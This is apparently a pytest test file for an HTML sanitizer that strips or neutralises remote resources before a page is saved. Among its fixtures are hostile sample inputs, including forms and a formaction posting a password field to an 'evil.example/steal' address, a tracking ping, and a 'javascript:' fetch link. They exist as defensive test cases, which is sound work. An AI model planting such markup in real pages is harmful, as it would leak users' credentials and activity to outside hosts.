"""Remote resources are removed or neutralised before a page is saved; everything else is kept as written."""

from __future__ import annotations

import pytest

from prototypes.services.sanitize import EMPTY_DATA_URL, PLACEHOLDER_IMAGE, sanitize_html


def test_a_clean_page_is_kept_byte_for_byte():
    page = (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><style>.a{color:red}</style></head>'
        '<body><a href="#top" onclick="toggle()">Menu &amp; more</a><!-- note -->'
        "<script>function toggle(){document.body.classList.toggle('open')}</script>"
        '<img src="data:image/png;base64,AAAA" alt="x"><svg viewBox="0 0 1 1"><path d="M0 0"/></svg></body></html>'
    )

    result = sanitize_html(page)

    assert result.html == page
    assert result.notes == ()


@pytest.mark.parametrize(
    ("html", "gone"),
    [
        ('<script src="https://cdn.tailwindcss.com"></script><p>x</p>', "cdn.tailwindcss.com"),
        ('<script src="//unpkg.com/alpinejs" defer>ignored()</script><p>x</p>', "unpkg.com"),
        ('<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter"><p>x</p>', "googleapis"),
        ('<link rel="preconnect" href="https://fonts.gstatic.com"><p>x</p>', "gstatic"),
        ('<iframe src="https://evil.example"><p>inside</p></iframe><p>x</p>', "evil.example"),
        ('<object data="https://evil.example/x.swf"><p>inside</p></object><p>x</p>', "evil.example"),
        ('<embed src="https://evil.example/x.swf"><p>x</p>', "evil.example"),
        ('<base href="https://evil.example/"><p>x</p>', "evil.example"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>', "evil.example"),
        ('<form action="https://evil.example/steal"><input name="pw"></form><p>x</p>', "evil.example"),
        ('<button formaction="https://evil.example/steal">Go</button><p>x</p>', "evil.example"),
        ("<style>@import url('https://fonts.googleapis.com/css?family=Inter');.a{}</style><p>x</p>", "googleapis"),
        ('<style>@import "https://evil.example/a.css";</style><p>x</p>', "evil.example"),
        (
            "<style>@font-face{font-family:X;src:url(https://evil.example/x.woff2) format('woff2')}</style><p>x</p>",
            "evil.example",
        ),
        ("<div style=\"background-image:url('https://evil.example/bg.png')\">x</div><p>x</p>", "evil.example"),
        ('<img src="https://via.placeholder.com/150" alt="a"><p>x</p>', "placeholder.com"),
        ('<img src="data:," srcset="https://evil.example/a.png 2x"><p>x</p>', "evil.example"),
        ('<a href="/pricing" ping="https://evil.example/track">x</a><p>x</p>', "evil.example"),
        ('<video poster="https://evil.example/p.jpg"></video><p>x</p>', "evil.example"),
        ('<audio src="https://evil.example/a.mp3"></audio><p>x</p>', "evil.example"),
    ],
)
def test_remote_resources_are_removed(html, gone):
    result = sanitize_html(html)

    assert gone not in result.html
    assert "<p>x</p>" in result.html
    assert result.notes


def test_the_content_of_a_removed_iframe_or_script_is_removed_too():
    result = sanitize_html(
        '<iframe src="https://e.example"><iframe></iframe>bad</iframe><script src="x.js">bad()</script>ok'
    )

    assert result.html == "ok"


def test_a_remote_image_becomes_an_inline_placeholder():
    result = sanitize_html('<img class="w-full" src="https://images.unsplash.com/photo-1" alt="Team">')

    assert result.html == f'<img class="w-full" src="{PLACEHOLDER_IMAGE}" alt="Team">'
    assert result.notes == ("replaced remote image https://images.unsplash.com/photo-1",)


def test_a_remote_css_url_becomes_an_empty_data_url():
    result = sanitize_html("<style>.hero{background:url(https://e.example/a.png) center}</style>")

    assert result.html == f'<style>.hero{{background:url("{EMPTY_DATA_URL}") center}}</style>'


def test_javascript_urls_are_replaced():
    result = sanitize_html("<a href=\" javascript:fetch('https://e.example')\">x</a>")

    assert result.html == '<a href="#">x</a>'


def test_inline_scripts_and_event_handlers_stay():
    page = '<button onclick="open()">Open</button><script>function open(){}</script>'

    assert sanitize_html(page).html == page


def test_a_form_posting_to_the_page_itself_keeps_working():
    page = '<form action="#" onsubmit="return false"><input name="q"></form>'

    assert sanitize_html(page).html == page
